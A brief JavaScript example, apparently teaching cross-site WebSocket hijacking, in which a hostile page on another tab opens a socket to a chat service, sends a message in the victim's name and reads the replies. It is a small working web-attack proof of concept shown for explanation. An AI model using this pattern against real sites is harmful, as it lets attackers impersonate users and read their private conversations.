// The page https://prizes.example, in another tab.
const ws = new WebSocket('wss://chat.example')

ws.onopen = () => {
  const text = 'Lend me 500?'
  ws.send(JSON.stringify({ type: 'say', text }))
}

ws.onmessage = ({ data }) => {
  console.log(`The attacker reads ${data}`)
}

ws.onclose = ({ code }) => {
  console.log(`The attacker is out: ${code}`)
}
